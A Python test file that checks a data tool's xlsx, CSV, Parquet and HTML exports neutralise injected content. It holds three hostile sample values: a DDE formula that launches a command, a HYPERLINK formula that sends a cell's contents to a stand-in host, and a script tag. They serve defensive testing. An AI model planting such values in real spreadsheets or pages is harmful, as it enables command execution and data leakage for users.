"""What a document prints is never run: not by a spreadsheet, not by a browser."""

import csv
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import openpyxl
import pyarrow.parquet
import pytest
from fastapi.testclient import TestClient

from api.http.app import create_app
from api.live import LiveService
from api.settings import Settings
from benchmarks.corpus import document_for, write
from tests.commands import Jipu

FORMULA = "=cmd|'/C calc'!A0"
LINK = '=HYPERLINK("http://x.invalid/?q="&A1,"点击")'
SCRIPT = "<script>alert('绩效')</script>"


@pytest.fixture(scope="module")
def harmful(jipu: Jipu, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a document whose project, indicator and value would run."""
    folder = tmp_path_factory.mktemp("harmful")
    document = document_for("ningxia", 1, 0)
    (project,) = document.projects
    first, second, *others = project.indicators
    changed = replace(
        project,
        name=FORMULA,
        indicators=(replace(first, name=LINK), replace(second, name=SCRIPT), *others),
    )
    printed = write("ningxia", "xlsx", replace(document, projects=(changed,)), 0)
    (folder / "a.xlsx").write_bytes(printed.data)
    ran = jipu("ingest", folder / "a.xlsx", "--home", folder / "home")
    assert ran.status == 0, ran.err
    return folder / "home"


@pytest.fixture(scope="module")
def harmful_client(harmful: Path, model_cache: Path) -> Iterator[TestClient]:
    service = LiveService(Settings(home=harmful, cache=model_cache))
    with TestClient(create_app(service)) as client:
        yield client
    service.close()


def test_a_workbook_holds_formulas_as_texts(jipu: Jipu, harmful: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert jipu("export", "--format", "xlsx", out, "--home", harmful).status == 0
    sheet = openpyxl.load_workbook(out).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    found = {cell.value: cell for cell in cells if cell.value in (FORMULA, LINK, SCRIPT)}
    assert set(found) == {FORMULA, LINK, SCRIPT}
    assert {cell.data_type for cell in found.values()} == {"s"}
    assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)


def test_csv_defuses_them_and_parquet_holds_them_as_printed(
    jipu: Jipu, harmful: Path, tmp_path: Path
) -> None:
    paths = {form: tmp_path / f"out.{form}" for form in ("csv", "parquet")}
    for form, path in paths.items():
        assert jipu("export", "--format", form, path, "--home", harmful).status == 0
    with paths["csv"].open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    table = pyarrow.parquet.read_table(paths["parquet"]).to_pylist()
    assert [rows[0]["project"], rows[0]["name"]] == [f"'{FORMULA}", f"'{LINK}"]
    assert [table[0]["project"], table[0]["name"]] == [FORMULA, LINK]
    assert rows[1]["name"] == table[1]["name"] == SCRIPT


def test_pages_escape_them(harmful_client: TestClient) -> None:
    query = "SELECT ?s { ?s rdfs:label ?label . FILTER(CONTAINS(?label, '<script>')) }"
    answer = harmful_client.get("/sparql", params={"query": query}).json()
    iris = [row["s"]["value"] for row in answer["results"]["bindings"]]
    assert iris
    for iri in iris:
        path = "/" + iri.removeprefix("https://w3id.org/jipu/")
        page = harmful_client.get(path, headers={"Accept": "text/html"}).text
        assert "<script>" not in page
        assert "&lt;script&gt;" in page
